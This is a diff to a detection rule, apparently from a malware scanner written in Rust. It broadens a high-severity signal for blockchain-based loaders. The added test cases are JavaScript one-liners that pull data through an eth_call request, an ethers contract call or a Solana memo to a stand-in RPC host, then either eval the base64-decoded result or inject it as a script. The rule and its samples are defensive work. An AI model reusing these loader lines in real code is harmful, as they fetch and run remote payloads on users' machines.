@@ -10,8 +10,8 @@ pub(super) const SIGNAL: Signal = Signal {
     severity: Severity::High,
     classes: ClassSet::MALWARE,
     needs: &[
-        one(&[Atom::ChainCall]),
-        one(&[Atom::ValueRun, Atom::RemoteRun, Atom::AnswerRun]),
+        one(&[Atom::ChainCall, Atom::ChainRead]),
+        one(&[Atom::ValueRun, Atom::RemoteRun, Atom::AnswerRun, Atom::ScriptFromAnswer]),
         one(&[Atom::Decode, Atom::FromCodes, Atom::AnswerBody, Atom::Request]),
     ],
     within: 250,
@@ -20,6 +20,8 @@ pub(super) const SIGNAL: Signal = Signal {
     cases: crate::signals::Cases {
         with: &[
             "fetch('https://rpc.example',{method:'POST',body:JSON.stringify({method:'eth_call',params:[{to:a,data:d},'latest']})}).then(r=>r.json()).then(j=>eval(atob(j.result)))",
+            "const p=new ethers.providers.JsonRpcProvider('https://rpc.example/');const c=new ethers.Contract(a,['function get() view returns (string)'],p);c.get().then(l=>{eval(atob(l))})",
+            "fetch('https://rpc.example',{method:'POST',body:JSON.stringify({method:'getSignaturesForAddress',params:[a,{limit:1}]})}).then(r=>r.json()).then(j=>{const m=JSON.parse(j.result[0].memo);const s=document.createElement('script');s.src=atob(m.link);document.head.append(s)})",
         ],
         without: &[
             "fetch(rpc,{method:'POST',body:JSON.stringify({jsonrpc:'2.0',method:'eth_call',params:[{to:token,data:'0x70a08231'+a},'latest']})}).then(r=>r.json()).then(j=>{out.textContent=BigInt(j.result)})",
